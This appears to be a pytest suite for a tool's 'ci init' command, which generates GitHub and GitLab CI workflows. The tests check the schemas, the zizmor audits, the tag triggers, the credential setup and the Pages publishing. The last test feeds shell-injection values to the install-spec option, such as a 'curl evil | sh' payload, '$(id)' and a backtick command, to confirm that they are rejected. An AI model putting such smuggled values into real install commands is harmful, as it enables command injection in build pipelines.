"""`ci init`: workflows that pass the real linters (check-jsonschema with the schemas it ships,
zizmor offline) and whose triggers, steps and credentials do what the README says."""

from __future__ import annotations

import json
import os
import re
import subprocess

import pytest
import yaml
from conftest import BIN, commit_all, dvc, git
from typer.testing import CliRunner

import modelgit
from modelgit.cli.app import app
from modelgit.errors import InputError, ManifestError

runner = CliRunner()

REGISTRATIONS = ["churn@v1.2.3", "svc/nlp=intent@v0.1.0", "churn@v1.0.0-rc.1"]
ASSIGNMENTS = ["churn#production#4", "svc/nlp=intent#staging#12"]
OTHERS = ["churn@v1.2.3!", "churn#production!#5", "churn@deprecated", "v1.0", "release-2"]


def tool(name: str, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([os.path.join(BIN, name), *args], capture_output=True, text=True,
                          check=False)  # fmt: skip


def github_filter(patterns: list[str], ref: str) -> bool:
    """GitHub's documented filter-pattern semantics for `on.push.tags`: `*` matches any
    characters but `/`, `**` any characters, `[0-9]` a listed character; a `!` pattern
    excludes what matched before it, and the last matching pattern decides."""
    matched = False
    for pattern in patterns:
        negated = pattern.startswith("!")
        body = pattern[1:] if negated else pattern
        regex = "".join(
            ".*" if token == "**" else "[^/]*" if token == "*" else token
            if token.startswith("[") else re.escape(token)
            for token in re.findall(r"\*\*|\*|\[[^\]]*\]|.", body)
        )  # fmt: skip
        if re.fullmatch(regex, ref):
            matched = not negated
    return matched


def with_remote(repo, url: str) -> None:
    dvc(repo, "remote", "add", "-d", "storage", url)
    commit_all(repo, "Add the DVC remote")


@pytest.mark.parametrize("auth", ["oidc", "secrets"])
def test_github_workflows_validate_and_pass_zizmor(registry, auth):
    with_remote(registry, "s3://models/store")
    result = modelgit.ci_init(registry, "github", auth=auth, apply=True)
    assert result.written == (
        ".github/workflows/modelgit-release.yml",
        ".github/workflows/modelgit-report.yml",
    )
    files = [str(registry / path) for path in result.written]
    checked = tool("check-jsonschema", "--builtin-schema", "vendor.github-workflows", *files)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    audit = tool("zizmor", "--offline", "--persona", "pedantic", "--format", "json", *files)
    assert audit.returncode == 0, audit.stdout + audit.stderr
    assert json.loads(audit.stdout) == []
    release = yaml.safe_load((registry / result.written[0]).read_text())
    job = release["jobs"]["release"]
    steps = job["steps"]
    uses = [s["uses"] for s in steps if "uses" in s]
    assert all(re.fullmatch(r"[\w/-]+@[0-9a-f]{40}", u) for u in uses), uses
    assert steps[0]["with"] == {"fetch-depth": 0, "persist-credentials": False}
    assert all("${{" not in s.get("run", "") for job in release["jobs"].values()
               for s in job["steps"])  # fmt: skip
    install = next(s["run"] for s in steps if s.get("name") == "Install modelgit")
    assert '"modelgit[k8s,s3]==' in install
    run = next(s for s in steps if s.get("name") == "Release")
    if auth == "oidc":
        assert job["permissions"]["id-token"] == "write"
        assert any(u.startswith("aws-actions/configure-aws-credentials@") for u in uses)
        assert "AWS_ACCESS_KEY_ID" not in run["env"]
    else:
        assert "id-token" not in job["permissions"]
        assert run["env"]["AWS_ACCESS_KEY_ID"] == "${{ secrets.AWS_ACCESS_KEY_ID }}"
    apply = release["jobs"]["apply-production"]
    assert apply["environment"] == "production" and apply["needs"] == "release"
    assert apply["if"] == "github.event_name == 'push' && contains(github.ref_name, '#production#')"
    assert set(release["jobs"]) == {"release", "apply-staging", "apply-production"}


def test_github_triggers_take_registrations_and_assignments_but_no_cancel_forms(registry):
    modelgit.ci_init(registry, "github")
    release = yaml.safe_load((registry / ".github/workflows/modelgit-release.yml").read_text())
    patterns = release[True]["push"]["tags"]  # PyYAML reads `on:` as True
    assert [t for t in REGISTRATIONS + ASSIGNMENTS if not github_filter(patterns, t)] == []
    assert [t for t in OTHERS if github_filter(patterns, t)] == []
    # A tag the patterns let through that is not modelgit's: nothing to release (exit 0).
    assert github_filter(patterns, "tool@v2")
    result = runner.invoke(app, ["ci", "release", "tool@v2", "--out", str(registry / "r"),
                                 "-C", str(registry)])  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "tool@v2: nothing to release" in result.stdout
    assert release[True]["workflow_dispatch"]["inputs"]["since"]["required"] is True
    steps = release["jobs"]["release"]["steps"]
    fetch = next(s for s in steps if s.get("name") == "Keep the pushed tag annotated")
    assert 'fetch --no-tags --force origin "+refs/tags/$TAG:refs/tags/$TAG"' in fetch["run"]
    assert "apply-production" not in release["jobs"]  # only with --apply


def test_report_workflow_updates_one_comment_and_survives_forks(registry):
    modelgit.ci_init(registry, "github")
    report = yaml.safe_load((registry / ".github/workflows/modelgit-report.yml").read_text())
    steps = report["jobs"]["report"]["steps"]
    summary = next(s for s in steps if s.get("name") == "Job summary")
    assert summary["if"] == "${{ !cancelled() }}" and "GITHUB_STEP_SUMMARY" in summary["run"]
    post = next(s for s in steps if s.get("name") == "Post or update the report comment")
    script = post["run"]
    assert 'if [ "$HEAD_REPO" != "$REPO" ]' in script and "exit 0" in script
    assert 'startswith("<!-- modelgit report -->")' in script
    assert "--method PATCH" in script and "--edit-last" not in script
    assert post["env"]["HEAD_REPO"] == "${{ github.event.pull_request.head.repo.full_name }}"


def gitlab_rule(job: dict, tag: str) -> bool:
    """Whether a GitLab job's `$CI_COMMIT_TAG =~ /.../` rules match a tag (RE2 syntax, which
    these patterns share with Python's `re`)."""
    for rule in job["rules"]:
        found = re.fullmatch(r"\$CI_COMMIT_TAG =~ /(.*)/", rule["if"])
        if found and re.search(found.group(1), tag):
            return True
    return False


def test_gitlab_jobs_validate_with_anchored_rules(registry):
    with_remote(registry, "gs://models/store")
    result = modelgit.ci_init(registry, "gitlab", auth="secrets", apply=True)
    assert result.written == (".gitlab/modelgit.gitlab-ci.yml", ".gitlab-ci.yml")
    files = [str(registry / path) for path in result.written]
    checked = tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", *files)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    jobs = yaml.safe_load((registry / result.written[0]).read_text())
    release = jobs["modelgit-release"]
    assert all(rule["if"].split("=~ /")[1].startswith("^") for rule in release["rules"])
    assert all(r["if"].endswith("$/'") or r["if"].endswith("$/") for r in release["rules"])
    assert [t for t in REGISTRATIONS + ASSIGNMENTS if not gitlab_rule(release, t)] == []
    assert [t for t in OTHERS if gitlab_rule(release, t)] == []
    apply = jobs["modelgit-apply-production"]
    assert apply["environment"] == {"name": "production"}
    assert gitlab_rule(apply, "churn#production#4") and not gitlab_rule(apply, "churn#staging#4")
    assert '"modelgit[gs,k8s]==' in jobs[".modelgit"]["before_script"][0]
    note = "\n".join(jobs["modelgit-report"]["script"])
    assert "MODELGIT_GITLAB_TOKEN" in note and "merge_requests/$CI_MERGE_REQUEST_IID/notes" in note
    assert "--request PUT" in note and "exit $status" in note


def test_gitlab_oidc_for_s3_uses_an_id_token(registry):
    with_remote(registry, "s3://models/store")
    modelgit.ci_init(registry, "gitlab")
    jobs = yaml.safe_load((registry / ".gitlab/modelgit.gitlab-ci.yml").read_text())
    release = jobs["modelgit-release"]
    assert release["id_tokens"]["MODELGIT_AWS_ID_TOKEN"]["aud"] == "sts.amazonaws.com"
    assert release["variables"]["AWS_ROLE_ARN"] == "$MODELGIT_AWS_ROLE_ARN"


def test_existing_workflows_are_never_overwritten_without_force(registry):
    modelgit.ci_init(registry, "github")
    target = registry / ".github/workflows/modelgit-release.yml"
    target.write_text("# mine\n")
    with pytest.raises(ManifestError, match="exists; pass --force"):
        modelgit.ci_init(registry, "github")
    assert target.read_text() == "# mine\n"
    result = runner.invoke(app, ["ci", "init", "--force", "-C", str(registry)])
    assert result.exit_code == 0 and "modelgit ci release" in target.read_text()


def test_bad_init_options_are_one_line(registry):
    with pytest.raises(InputError, match="unknown --auth"):
        modelgit.ci_init(registry, "github", auth="keys")
    result = runner.invoke(app, ["ci", "init", "--provider", "jenkins", "-C", str(registry)])
    assert result.exit_code == 2 and "use github or gitlab" in result.stderr


def test_report_lists_changed_models_against_base_and_production(retrained):
    # `retrained`: HEAD retrains churn@v0.2.0's model with train.C 0.25 instead of 0.3.
    modelgit.promote(retrained, "churn", "0.2.0", "production")
    git(retrained, "branch", "base", "churn@v0.2.0^{commit}")
    out = retrained / "report.md"
    args = ["--base", "base", "--out", str(out), "--fail-on", "any-metric-worse"]
    result = runner.invoke(app, ["ci", "report", *args, "-C", str(retrained)])
    text = out.read_text()
    assert text.startswith("<!-- modelgit report -->\n## modelgit report")
    assert "| `train.C` | 0.3 | 0.25 | changed |" in text
    assert "<details><summary>Against production</summary>" in text
    [change] = modelgit.diff(retrained, "base", "HEAD").comparisons
    worse = any(m.verdict == "worse" for m in change.metrics)
    assert result.exit_code == (1 if worse else 0)
    report = modelgit.ci_report(retrained, "base", ["any-metric-worse"])
    assert [m.model for m in report.models] == ["churn"] and report.failed == worse
    assert report.models[0].against_production is not None
    unchanged = modelgit.ci_report(retrained, "HEAD")
    assert unchanged.models == () and not unchanged.failed
    printed = runner.invoke(app, ["ci", "report", "--base", "HEAD", "-C", str(retrained)])
    assert printed.exit_code == 0 and "No model changes" in printed.stdout


SITE_TRIGGERS = REGISTRATIONS + ASSIGNMENTS + ["churn@v1.2.3!", "churn#production!#5",
                                               "churn@deprecated"]  # fmt: skip


def run_in(repo, command: str) -> subprocess.CompletedProcess:
    """A workflow's shell step, run for real in the repository with the installed modelgit."""
    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}"}
    return subprocess.run(command, shell=True, cwd=repo, env=env, capture_output=True, text=True,
                          check=False)  # fmt: skip


def test_site_workflow_publishes_to_github_pages_on_every_registry_tag(registry):
    result = modelgit.ci_init(registry, "github", site=True)
    assert ".github/workflows/modelgit-site.yml" in result.written
    files = [str(registry / path) for path in result.written]
    checked = tool("check-jsonschema", "--builtin-schema", "vendor.github-workflows", *files)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    audit = tool("zizmor", "--offline", "--persona", "pedantic", "--format", "json", *files)
    assert audit.returncode == 0, audit.stdout + audit.stderr
    assert json.loads(audit.stdout) == []
    workflow = yaml.safe_load((registry / ".github/workflows/modelgit-site.yml").read_text())
    patterns = workflow[True]["push"]["tags"]  # PyYAML reads `on:` as True
    assert [t for t in SITE_TRIGGERS if not github_filter(patterns, t)] == []
    assert not github_filter(patterns, "v1.0") and not github_filter(patterns, "release-2")
    assert "workflow_dispatch" in workflow[True]
    assert workflow["permissions"] == {"contents": "read"}
    assert workflow["concurrency"] == {"group": "pages", "cancel-in-progress": False}
    build, deploy = workflow["jobs"]["build"], workflow["jobs"]["deploy"]
    uses = [s["uses"] for job in (build, deploy) for s in job["steps"] if "uses" in s]
    assert all(re.fullmatch(r"[\w/-]+@[0-9a-f]{40}", u) for u in uses), uses
    assert [u.split("@")[0] for u in uses] == [
        "actions/checkout", "actions/setup-python", "actions/upload-pages-artifact",
        "actions/deploy-pages",
    ]  # fmt: skip
    assert build["permissions"] == {"contents": "read"}
    assert build["steps"][0]["with"] == {"fetch-depth": 0, "persist-credentials": False}
    fetch = next(s for s in build["steps"] if s.get("name") == "Keep the pushed tag annotated")
    assert 'fetch --no-tags --force origin "+refs/tags/$TAG:refs/tags/$TAG"' in fetch["run"]
    assert deploy["permissions"] == {"pages": "write", "id-token": "write"}
    assert deploy["needs"] == "build" and deploy["environment"]["name"] == "github-pages"
    upload = next(s for s in build["steps"] if s.get("uses", "").startswith("actions/upload-"))
    assert upload["with"] == {"path": "_site/"}
    # The build step, run for real: it writes the folder the upload step publishes.
    step = next(s for s in build["steps"] if s.get("name") == "Build the site")
    built = run_in(registry, step["run"])
    assert built.returncode == 0, built.stderr
    assert "churn" in (registry / "_site" / "index.html").read_text()


def test_site_job_publishes_to_gitlab_pages_on_every_registry_tag(registry):
    result = modelgit.ci_init(registry, "gitlab", site=True)
    files = [str(registry / path) for path in result.written]
    checked = tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", *files)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    jobs = yaml.safe_load((registry / ".gitlab/modelgit.gitlab-ci.yml").read_text())
    pages = jobs["pages"]
    assert [t for t in SITE_TRIGGERS if not gitlab_rule(pages, t)] == []
    assert [t for t in ["v1.0", "release-2", "churn@v1"] if gitlab_rule(pages, t)] == []
    assert pages["resource_group"] == "pages" and pages["artifacts"]["paths"] == ["public/"]
    assert pages["extends"] == ".modelgit" and jobs[".modelgit"]["variables"]["GIT_DEPTH"] == "0"
    build = pages["script"][-1]
    assert build == "modelgit site -o public"
    built = run_in(registry, build)
    assert built.returncode == 0, built.stderr
    assert "churn" in (registry / "public" / "index.html").read_text()


def test_no_site_job_without_the_flag(registry):
    assert ".github/workflows/modelgit-site.yml" not in modelgit.ci_init(registry).written
    modelgit.ci_init(registry, "gitlab")
    assert "pages" not in yaml.safe_load((registry / ".gitlab/modelgit.gitlab-ci.yml").read_text())
    result = runner.invoke(app, ["ci", "init", "--site", "--force", "-C", str(registry)])
    assert result.exit_code == 0, result.output
    assert "wrote .github/workflows/modelgit-site.yml" in result.stdout


def environment_rule(pattern: str, tag: str) -> bool:
    """GitHub's deployment tag rules (Ruby File.fnmatch as documented): `*` stops at `/`."""
    regex = "".join("[^/]*" if c == "*" else re.escape(c) for c in pattern)
    return re.fullmatch(regex, tag) is not None


def test_site_set_up_names_the_pages_environment_tag_rule(registry):
    result = runner.invoke(app, ["ci", "init", "--site", "-C", str(registry)])
    assert result.exit_code == 0, result.output
    header = (registry / ".github/workflows/modelgit-site.yml").read_text().split("\nname:")[0]
    header = " ".join(line.strip("# ") for line in header.splitlines())  # the comment's words
    for text in (result.stdout, header):
        assert "Settings > Environments > github-pages" in text
        assert "not allowed to deploy to github-pages due to environment protection" in text
        assert "No restriction" in text and "Settings > Pages > Source" in text
    # The rules the README and the comment give let every plain registry tag the site builds on
    # through GitHub's environment check (monorepo tags need a rule per `/`, as they say).
    rules = re.findall(r"`(\*[^`]*)`", header.split("Deployment branches and tags")[1])
    assert {"*@v*", "*#*", "*@deprecated"} <= set(rules)
    plain = [t for t in SITE_TRIGGERS if "/" not in t]
    assert [t for t in plain if not any(environment_rule(r, t) for r in rules)] == []
    assert environment_rule("*/*@v*", "svc/nlp=intent@v0.1.0")
    # A tag push runs the workflow of the tagged commit: said where the user looks.
    assert "next: commit and push these files on the default branch" in result.stdout
    assert "runs the workflow file of the tagged commit" in result.stdout
    assert "by hand" in result.stdout and "by hand from the default branch" in header
    release = (registry / ".github/workflows/modelgit-release.yml").read_text()
    assert "as it is in the tagged commit" in release.split("\nname:")[0]
    plain_init = modelgit.ci_init(registry, "github", force=True)
    assert not any("github-pages" in step for step in plain_init.next_steps)


def test_gitlab_jobs_name_default_stages_and_pages_installs_only_modelgit(registry):
    with_remote(registry, "s3://models/store")
    (registry / ".gitlab-ci.yml").write_text(
        "stages: [lint, test]\ninclude:\n  - local: .gitlab/modelgit.gitlab-ci.yml\n"
    )
    result = modelgit.ci_init(registry, "gitlab", apply=True, site=True)
    files = [str(registry / ".gitlab/modelgit.gitlab-ci.yml"), str(registry / ".gitlab-ci.yml")]
    checked = tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", *files)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    jobs = yaml.safe_load((registry / ".gitlab/modelgit.gitlab-ci.yml").read_text())
    stages = {name: job.get("stage") for name, job in jobs.items() if not name.startswith(".")}
    assert stages == {
        "modelgit-release": "build", "modelgit-catch-up": "build",
        "modelgit-apply-production": "deploy", "modelgit-apply-staging": "deploy",
        "pages": "deploy", "modelgit-report": "test",
    }  # fmt: skip
    # The user's own `stages:` replaces GitLab's defaults: ci init names what it lacks.
    assert any("lacks build, deploy" in step for step in result.next_steps), result.next_steps
    (registry / ".gitlab-ci.yml").write_text(
        "include:\n  - local: .gitlab/modelgit.gitlab-ci.yml\n"
    )
    again = modelgit.ci_init(registry, "gitlab", apply=True, site=True, force=True)
    assert not any("lacks" in step for step in again.next_steps)
    # The site reads tags only: no DVC plugin, no Kubernetes validation.
    [install] = jobs["pages"]["before_script"]
    assert re.fullmatch(r'python -m pip install "modelgit==[^"\[]+"', install), install
    assert "k8s" in jobs[".modelgit"]["before_script"][0]
    # Run by hand like GitHub's workflow_dispatch: a web pipeline on the default branch.
    web = [r["if"] for r in jobs["pages"]["rules"] if "CI_PIPELINE_SOURCE" in r["if"]]
    assert web == ['$CI_PIPELINE_SOURCE == "web" && $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH']
    assert any("MODELGIT_SINCE" in step for step in again.next_steps)


GIT_SPEC = "modelgit @ git+https://github.com/acme/modelgit@" + "0123456789abcdef" * 2 + "01234567"


def installed(run: str) -> str:
    """The requirement a `python -m pip install "..."` line hands to pip, as the shell reads it."""
    import shlex

    words = shlex.split(run)
    assert words[:4] == ["python", "-m", "pip", "install"] and len(words) == 5, words
    return words[4]


def test_install_spec_points_every_job_at_another_build(registry):
    from packaging.requirements import Requirement

    with_remote(registry, "s3://models/store")
    result = runner.invoke(app, ["ci", "init", "--site", "--apply", "--install-spec", GIT_SPEC,
                                 "--json", "-C", str(registry)])  # fmt: skip
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["install"] == GIT_SPEC.replace(
        "modelgit", "modelgit[k8s,s3]", 1
    )
    files = [str(registry / path) for path in json.loads(result.stdout)["written"]]
    checked = tool("check-jsonschema", "--builtin-schema", "vendor.github-workflows", *files)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    audit = tool("zizmor", "--offline", "--persona", "pedantic", "--format", "json", *files)
    assert audit.returncode == 0 and json.loads(audit.stdout) == [], audit.stdout + audit.stderr
    url = GIT_SPEC.split(" @ ")[1]
    for name, extras in (("release", {"k8s", "s3"}), ("report", {"k8s", "s3"}), ("site", set())):
        workflow = yaml.safe_load((registry / f".github/workflows/modelgit-{name}.yml").read_text())
        runs = [s["run"] for job in workflow["jobs"].values() for s in job.get("steps", [])
                if "pip install" in s.get("run", "")]  # fmt: skip
        requirement = Requirement(installed(runs[0]))
        assert (requirement.name, requirement.url, requirement.extras) == ("modelgit", url, extras)
    modelgit.ci_init(registry, "gitlab", site=True, install_spec="modelgit==0.2.0")
    jobs = yaml.safe_load((registry / ".gitlab/modelgit.gitlab-ci.yml").read_text())
    assert installed(jobs[".modelgit"]["before_script"][0]) == "modelgit[k8s,s3]==0.2.0"
    assert installed(jobs["pages"]["before_script"][0]) == "modelgit==0.2.0"


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        ('modelgit==0.1.0"; curl evil | sh; "', "without shell characters"),
        ("modelgit @ git+https://x/$(id)", "without shell characters"),
        ("modelgit==0.1.0\nrun: evil", "without shell characters"),
        ("modelgit`id`", "without shell characters"),
        ("modelgit==0.1.0; python_version>'3'", "without shell characters"),
        ("modelgit===", "is not a pip requirement"),
        ("numpy==1.26", "must install modelgit, not numpy"),
    ],
)
def test_an_unsafe_install_spec_is_one_line_and_writes_nothing(registry, spec, message):
    result = runner.invoke(app, ["ci", "init", "--install-spec", spec, "-C", str(registry)])
    assert result.exit_code == 2, result.output
    assert message in result.stderr and result.stderr.count("\n") == 1, result.stderr
    assert not (registry / ".github").exists()
